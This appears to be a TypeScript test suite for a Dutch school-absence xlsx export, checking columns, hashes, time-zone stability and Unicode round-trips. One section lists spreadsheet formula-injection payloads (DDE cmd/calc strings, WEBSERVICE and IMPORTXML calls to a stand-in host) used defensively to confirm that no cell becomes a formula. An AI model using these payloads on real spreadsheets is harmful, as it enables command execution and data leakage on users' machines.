import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { read, utils, type WorkBook } from 'xlsx'
import { type SchrijfOpties, schrijfXlsx } from '#renderer/exports/schrijf-xlsx.ts'
import { verzamel } from '#renderer/exports/zip.ts'
import { lijstnaam } from '#shared/exports/tekst.ts'
import type { TotaaloverzichtOpdracht } from '#shared/exports/totaaloverzicht/opdracht.ts'
import { verken } from '#shared/exports/totaaloverzicht/verkenning.ts'
import { totaaloverzicht } from '#shared/exports/totaaloverzicht.ts'
import { KOLOM_IDS, type KolomId } from '#shared/exports/totaaloverzicht-kolommen.ts'
import { onthef } from '#shared/exports/werkboek.ts'
import type { IsoDatum, Tijdstip } from '#shared/schema/datum.ts'
import type { MeldingOpDesk } from '#shared/schema/desk.ts'
import { draai, inMap, LIBREOFFICE, PYTHON, zet } from './gereedschap.ts'
import { HERKOMST, melding, meldingen, opdracht, wachtend, willekeur } from './voorbeeld.ts'

async function maak(vraag: TotaaloverzichtOpdracht, opties: SchrijfOpties = {}): Promise<Uint8Array> {
  return verzamel(schrijfXlsx(totaaloverzicht(vraag, await verken(vraag.meldingen)), opties))
}
const lees = (bytes: Uint8Array) => read(bytes, { cellNF: true })
const rijen = (boek: WorkBook, blad: string) =>
  utils.sheet_to_json<(string | number | undefined)[]>(boek.Sheets[blad]!, { header: 1, blankrows: true })
/** The same promise each time it is asked. */
function eenmaal<T>(doe: () => Promise<T>): () => Promise<T> {
  let belofte: Promise<T> | null = null
  return () => (belofte ??= doe())
}
const LANG = { timeout: 180_000 }
const sha = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex')

/** Spreadsheet day of an ISO day, by another road than ours: through UTC milliseconds. */
const serie = (dag: string) =>
  Date.UTC(Number(dag.slice(0, 4)), Number(dag.slice(5, 7)) - 1, Number(dag.slice(8))) / 86_400_000 + 25_569

describe('the totaaloverzicht read back by SheetJS', () => {
  it('has four sheets with the columns of the reference, in Dutch', async () => {
    const boek = lees(await maak(opdracht(5)))
    expect(boek.SheetNames).toEqual(['Meldingen', 'Lesuren', 'Aantallen', 'Verantwoording'])
    expect(
      rijen(boek, 'Meldingen')[0]!.map((kop) => String(kop).replace(/-\n|\n/g, (eind) => (eind === '\n' ? ' ' : ''))),
    ).toEqual([
      'Meldingsnummer',
      'Leerlingnummer',
      'Naam',
      'Klas of opleiding',
      'Vermoedelijke soort',
      'Begin verzuim',
      'Eind verzuim',
      'Lesuren',
      'Locatie',
      'Gemeld op',
      'Werkdagen tot melding',
      'Status',
      'Dagen',
      'Melder',
      'Geboortedatum',
      'Soort code',
      'Vermoedelijke reden',
      'Alle lessen gemist',
      'Actie gewenst',
      'Gemeente',
      'Bijlagen',
      'Hele dagen',
    ])
  })

  it('gives the sample of the reference value by value, with real dates and leading zeros', async () => {
    const boek = lees(await maak(opdracht([melding({ inhoud: { studentnummer: '007412' } })])))
    const blad = boek.Sheets.Meldingen!
    expect(rijen(boek, 'Meldingen')[1]).toEqual([
      '1001203',
      '007412',
      'Dijkstra, Fenna',
      '4 havo-c',
      '16 uur in 4 weken, 18-',
      46_295,
      46_329,
      16,
      'Hoofdgebouw Leek',
      expect.closeTo(46_330.43063657, 6),
      1,
      'In behandeling',
      7,
      'M. de Wit',
      40_616,
      'V3',
      'Spijbelen',
      'nee',
      'ja',
      'Westerkwartier',
      1,
      0,
    ])
    expect([blad.A2!.t, blad.B2!.t, blad.F2!.t, blad.H2!.t]).toEqual(['s', 's', 'n', 'n'])
    expect([blad.A2!.z, blad.F2!.z, blad.J2!.z, blad.H2!.z]).toEqual([
      '@',
      'dd\\-mm\\-yyyy',
      'dd\\-mm\\-yyyy\\ hh:mm',
      '#,##0',
    ])
  })

  it('leaves empty what is not known: no number, no end, no answer, no hours', async () => {
    const boek = lees(
      await maak(
        opdracht([
          wachtend({
            inhoud: {
              soort: 'LRV',
              eind: null,
              verzuimspecificatie: [{ dag: '2026-10-01' as IsoDatum, heleDag: true }],
            },
          }),
        ]),
      ),
    )
    const rij = rijen(boek, 'Meldingen')[1]!
    expect([rij[0], rij[6], rij[7], rij[9], rij[10]]).toEqual([undefined, undefined, undefined, undefined, undefined])
    expect(rij[11]).toBe('Klaar, nog niet verzonden')
    expect(rijen(boek, 'Lesuren')[1]!.slice(4)).toEqual([46_296, 'do', undefined, 'hele dag', 'Hoofdgebouw Leek'])
  })

  it('names the counts so that the sheets can be checked against each other', async () => {
    const lijst = meldingen(300)
    const boek = lees(await maak(opdracht(lijst)))
    const feit = (label: string) => rijen(boek, 'Verantwoording').find(([naam]) => naam === label)![1]
    const ingetrokken = lijst.filter(({ stand }) => stand?.status === 'I').length
    const lesuren = lijst.flatMap(({ inhoud }) => inhoud.verzuimspecificatie)
    const heleDagen = lesuren.filter((dag) => 'heleDag' in dag).length
    const aantal = lesuren.reduce((som, dag) => som + ('lesuren' in dag ? dag.lesuren.length : 0), 0)
    expect(feit('Rijen op blad Meldingen')).toBe(300)
    expect(feit('waarvan ingetrokken')).toBe(ingetrokken)
    expect(feit('Rijen op blad Lesuren')).toBe(aantal + heleDagen)
    expect(feit('Som van Lesuren, blad Meldingen')).toBe(aantal)
    const som = rijen(boek, 'Meldingen')
      .slice(1)
      .reduce((totaal, rij) => totaal + Number(rij[7] ?? 0), 0)
    expect(som).toBe(aantal)
    expect(rijen(boek, 'Lesuren')).toHaveLength(aantal + heleDagen + 1)
    const totaal = rijen(boek, 'Aantallen').find(
      ([locatie, , soort]) => locatie === 'Alle locaties' && soort === 'alle soorten',
    )!
    expect(totaal[6]).toBe(300 - ingetrokken)
    expect(String(rijen(boek, 'Aantallen').at(-1)![0])).toContain(
      `${300 - ingetrokken} meldingen hier en ${ingetrokken} ingetrokken is 300`,
    )
  })

  it('hashes the rows so that anybody can compute the hash again from the two sheets', async () => {
    const boek = lees(await maak(opdracht(40)))
    const csv = ['Meldingen', 'Lesuren']
      .flatMap((naam) => {
        const [kop, ...lijst] = rijen(boek, naam)
        return lijst.map((rij) => `${kop!.map((_, i) => cel(rij[i])).join(';')}\r\n`)
      })
      .join('')
    function cel(waarde: string | number | undefined): string {
      if (waarde === undefined) return ''
      return typeof waarde === 'number' ? String(waarde) : `"${waarde.replaceAll('"', '""')}"`
    }
    expect(rijen(boek, 'Verantwoording').find(([naam]) => naam === 'Sha256 van de inhoud')![1]).toBe(
      sha(new TextEncoder().encode(csv)),
    )
  })

  it('holds no PGN unless asked with a reason, and then says the reason', async () => {
    const zonder = await maak(opdracht(20, { kolommen: [...KOLOM_IDS] }))
    expect(alleTekst(zonder)).not.toMatch(/\b\d{9}\b/)
    const met = lees(await maak(opdracht([melding()], { pgn: { reden: 'verzoek van de inspectie' } })))
    expect(rijen(met, 'Meldingen')[1]!.at(-1)).toBe('111222333')
    expect(rijen(met, 'Verantwoording').flat()).toContain('opgenomen. Reden: verzoek van de inspectie')
  })

  it('marks the practice world everywhere, and nothing outside it', async () => {
    const oefen = alleTekst(await maak(opdracht(1)))
    expect(oefen).toContain('OEFENOMGEVING. Alle personen')
    const echt = alleTekst(await maak(opdracht(1, { herkomst: { ...HERKOMST, oefenomgeving: false } })))
    expect(echt).not.toContain('OEFEN')
  })

  /** Every text of every cell. */
  function alleTekst(bytes: Uint8Array): string {
    const boek = lees(bytes)
    return boek.SheetNames.flatMap((naam) => rijen(boek, naam).flat()).join('\n')
  }
})

describe('the same list', () => {
  it('gives the same bytes in five time zones, with the same days', LANG, async () => {
    await inMap((map) => {
      const uit = ['Europe/Amsterdam', 'UTC', 'America/New_York', 'Pacific/Auckland', 'Pacific/Kiritimati'].map(
        (zone, n) => {
          const pad = join(map, `${n}.xlsx`)
          const gemeld = draaiInZone(zone, pad)
          expect(gemeld).toContain(zone)
          return readFileSync(pad)
        },
      )
      expect(new Set(uit.map(sha)).size).toBe(1)
      const lijst = meldingen(40)
      const gelezen = rijen(lees(uit[0]!), 'Meldingen').slice(1)
      for (const [n, { inhoud, leerling }] of lijst.entries()) {
        expect(gelezen[n]![5]).toBe(serie(inhoud.begin))
        expect(gelezen[n]![6]).toBe(inhoud.eind === null ? undefined : serie(inhoud.eind))
        expect(gelezen[n]![14]).toBe(serie(leerling.geboortedatum))
      }
    })
  })

  function draaiInZone(zone: string, pad: string): string {
    const oud = process.env.TZ
    process.env.TZ = zone
    try {
      return draai(process.execPath, [new URL('./in-zone.ts', import.meta.url).pathname, pad])
    } finally {
      if (oud === undefined) delete process.env.TZ
      else process.env.TZ = oud
    }
  }

  it('is written without cell references too, with equal values', async () => {
    const vraag = opdracht(30)
    const met = lees(await maak(vraag))
    const zonder = lees(await maak(vraag, { verwijzingen: false }))
    for (const blad of met.SheetNames) expect(rijen(zonder, blad)).toEqual(rijen(met, blad))
  })

  it('flows the same from a stream as from a list', async () => {
    const lijst = meldingen(30)
    const stroom = {
      async *[Symbol.asyncIterator]() {
        yield* lijst
      },
    }
    expect(sha(await maak({ ...opdracht(lijst), meldingen: stroom }))).toBe(sha(await maak(opdracht(lijst))))
  })

  it('stops when it is cancelled', async () => {
    const stop = new AbortController()
    stop.abort()
    await expect(maak(opdracht(3), { signaal: stop.signal })).rejects.toMatchObject({ code: 'geannuleerd' })
  })
})

// ---- hostile and rare text -------------------------------------------------------------------------------------------

const BEGIN = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0=',
  "'=",
  '\ufeff=',
  '"=',
  ';=',
  '|',
  '%',
  '\u0000=',
]
const LIJF = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.example?"&A1;"klik")',
  'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  "SUM(1;1)*cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("http://x.example/"&A2)',
  "2+5+cmd|' /C calc'!A0",
  'IMAGE("http://x.example")',
  'EXEC("calc")',
]
const INJECTIES = BEGIN.flatMap((begin) => LIJF.map((lijf) => begin + lijf))

/** The sample with one text in every field that a person can type. */
function overal(tekst: string): MeldingOpDesk {
  const m = structuredClone(melding())
  m.leerling.voornaam = tekst
  m.leerling.achternaam = tekst
  m.leerling.groep = tekst
  m.inhoud.reden = tekst
  m.inhoud.toelichting = tekst
  m.inhoud.ondernomenActie = tekst
  m.inhoud.studentnummer = tekst
  m.inhoud.melder.naam = tekst
  return m
}

describe(`${INJECTIES.length} texts that want to be a formula`, () => {
  const vraag = opdracht(INJECTIES.map(overal), { kolommen: [...KOLOM_IDS], filter: '=1+1', volgorde: '@x' })
  const bestand = eenmaal(() => maak(vraag))

  it('give no formula cell, and no cell that becomes one when the sheet is saved as CSV', LANG, async () => {
    const boek = lees(await bestand())
    let cellen = 0
    for (const naam of boek.SheetNames)
      for (const [plek, cel] of Object.entries(boek.Sheets[naam]!)) {
        if (plek.startsWith('!')) continue
        cellen++
        expect(cel.f).toBeUndefined()
        if (cel.t === 's') expect(cel.v).not.toMatch(/^[\s\u00a0\ufeff]*[=+\-@＝＋－＠]/)
      }
    expect(cellen).toBeGreaterThan(INJECTIES.length * 30)
  })

  it('come back exactly when our own apostrophe is taken away', async () => {
    const boek = lees(await bestand())
    // A cell cannot hold a NUL; line ends are \n.
    const gelezen = rijen(boek, 'Meldingen')
      .slice(1)
      .map((rij) => onthef(String(rij[16])))
    expect(gelezen).toEqual(INJECTIES.map((tekst) => tekst.replace('\r', '\n').replace('\u0000', '\ufffd')))
  })

  it.skipIf(LIBREOFFICE === null)(
    'are plain text to LibreOffice',
    async () => {
      await inMap(async (map) => {
        const pad = zet(map, 'in.xlsx', await bestand())
        draai('soffice', [
          `-env:UserInstallation=file://${map}/profiel`,
          '--headless',
          '--convert-to',
          'fods',
          '--outdir',
          map,
          pad,
        ])
        const fods = readFileSync(join(map, 'in.fods'), 'utf8')
        expect(fods).toContain('cmd|')
        expect(fods).not.toContain('table:formula')
      })
    },
    120_000,
  )
})

/** Letters of every European alphabet, combining marks, emoji and what only computers write. */
const REEKSEN: [number, number][] = [
  [0x21, 0x7e],
  [0xa1, 0x24f],
  [0x250, 0x2af],
  [0x370, 0x3ff],
  [0x400, 0x52f],
  [0x531, 0x587],
  [0x10d0, 0x10ff],
  [0x1e00, 0x1eff],
  [0x300, 0x36f],
  [0x5d0, 0x5ea],
  [0x621, 0x64a],
  [0x1f600, 0x1f64f],
]

const KOLOMMEN_HIER: KolomId[] = ['meldingsnummer', 'leerlingnummer', 'naam', 'geboortedatum', 'toelichting']

describe('2,000 meldingen with names from every European alphabet', () => {
  const kans = willekeur(7)
  const basis = meldingen(2000, 3)
  const woord = () =>
    Array.from({ length: 1 + Math.floor(kans() * 12) }, () => {
      const [van, tot] = REEKSEN[Math.floor(kans() * REEKSEN.length)]!
      return kans() < 0.1 ? ' ' : String.fromCodePoint(van + Math.floor(kans() * (tot - van + 1)))
    }).join('')
  const dagen = () => {
    const jaar = 1900 + Math.floor(kans() * 201)
    return `${jaar}-${String(1 + Math.floor(kans() * 12)).padStart(2, '0')}-${String(1 + Math.floor(kans() * 28)).padStart(2, '0')}` as IsoDatum
  }
  const lijst = basis.map((m) => ({
    ...m,
    leerling: { ...m.leerling, voornaam: woord(), achternaam: woord(), geboortedatum: dagen() },
    inhoud: {
      ...m.inhoud,
      verzuimspecificatie: m.inhoud.verzuimspecificatie.slice(0, 1),
      toelichting: `_x0041_ ${woord()}\n<b>&amp;${woord()}`,
    },
  }))
  const bestand = eenmaal(() => maak(opdracht(lijst, { kolommen: KOLOMMEN_HIER })))
  const kolom = (naam: string) => KOLOMMEN_HIER.indexOf(naam as KolomId)
  const verwacht = lijst.map((m) => ({
    naam: lijstnaam(m.leerling),
    toelichting: m.inhoud.toelichting,
    nummer: m.inhoud.studentnummer,
    geboren:
      serie(m.leerling.geboortedatum) >= 61
        ? serie(m.leerling.geboortedatum)
        : m.leerling.geboortedatum.split('-').reverse().join('-'),
  }))

  it('come back equal through SheetJS', LANG, async () => {
    const gelezen = rijen(lees(await bestand()), 'Meldingen').slice(1)
    expect(
      gelezen.map((rij) => ({
        naam: onthef(String(rij[kolom('naam')])),
        toelichting: onthef(String(rij[kolom('toelichting')])),
        nummer: rij[kolom('leerlingnummer')],
        geboren: rij[kolom('geboortedatum')],
      })),
    ).toEqual(verwacht)
  })

  it.skipIf(PYTHON === null)('come back equal through openpyxl', LANG, async () => {
    await inMap(async (map) => {
      const pad = zet(map, 'in.xlsx', await bestand())
      const script = `
import json, sys, datetime, openpyxl
ws = openpyxl.load_workbook(sys.argv[1])['Meldingen']
uit = []
for rij in ws.iter_rows(min_row=2):
    uit.append([c.value.date().isoformat() if isinstance(c.value, datetime.datetime) else c.value for c in rij])
print(json.dumps({'rijen': uit, 'filter': ws.auto_filter.ref, 'vast': ws.freeze_panes, 'herhaal': ws.print_title_rows, 'papier': ws.print_area}))`
      const { rijen: gelezen, ...blad } = JSON.parse(draai(PYTHON as string, ['-c', script, pad]))
      expect(gelezen).toHaveLength(2000)
      for (const [n, m] of lijst.entries()) {
        expect(onthef(gelezen[n][kolom('naam')])).toBe(lijstnaam(m.leerling))
        // openpyxl leaves Excel's own escape of _x0041_ as it stands in the file.
        expect(onthef(gelezen[n][kolom('toelichting')]).replace('_x005F_', '_')).toBe(m.inhoud.toelichting)
        expect(gelezen[n][kolom('leerlingnummer')]).toBe(m.inhoud.studentnummer)
        const geboren = m.leerling.geboortedatum
        expect(gelezen[n][kolom('geboortedatum')]).toBe(
          geboren >= '1900-03-01' ? geboren : geboren.split('-').reverse().join('-'),
        )
      }
      expect(blad).toEqual({ filter: 'A1:E2001', vast: 'D2', herhaal: '$1:$1', papier: ['$A$1:$C$2001'] })
    })
  })
})

describe('the shell that exceljs makes', () => {
  it('opens in exceljs itself, with styles, frozen head, filter and print set-up', async () => {
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load((await maak(opdracht(10))).buffer as ArrayBuffer)
    const ws = wb.getWorksheet('Meldingen')!
    expect(ws.views[0]).toMatchObject({ state: 'frozen', xSplit: 3, ySplit: 1, showGridLines: false })
    expect(ws.autoFilter).toBe('A1:V11')
    expect(ws.pageSetup).toMatchObject({ orientation: 'landscape', paperSize: 9, fitToWidth: 1, fitToHeight: 0 })
    expect(ws.getCell('C2').font).toMatchObject({ name: 'Arial', size: 10, bold: true })
    expect(ws.getCell('A1').fill).toMatchObject({ fgColor: { argb: 'FFE0F0F3' } })
    expect(ws.getCell('F2').numFmt).toMatch(/^dd.*mm.*yyyy$/)
    expect(ws.getColumn(5).width).toBe(28)
    expect(wb.creator).toBe('Verzuimdesk')
  })

  it('underlines a melding that came after more than five werkdagen', async () => {
    const wb = new ExcelJS.Workbook()
    const laat = melding({ stand: { meldmoment: '2026-11-11T09:00:00.000Z' as Tijdstip } })
    await wb.xlsx.load((await maak(opdracht([melding(), laat]))).buffer as ArrayBuffer)
    const ws = wb.getWorksheet('Meldingen')!
    expect([ws.getCell('K2').value, ws.getCell('K3').value]).toEqual([1, 6])
    expect([ws.getCell('K2').font.underline, ws.getCell('K3').font.underline]).toEqual([undefined, true])
  })
})
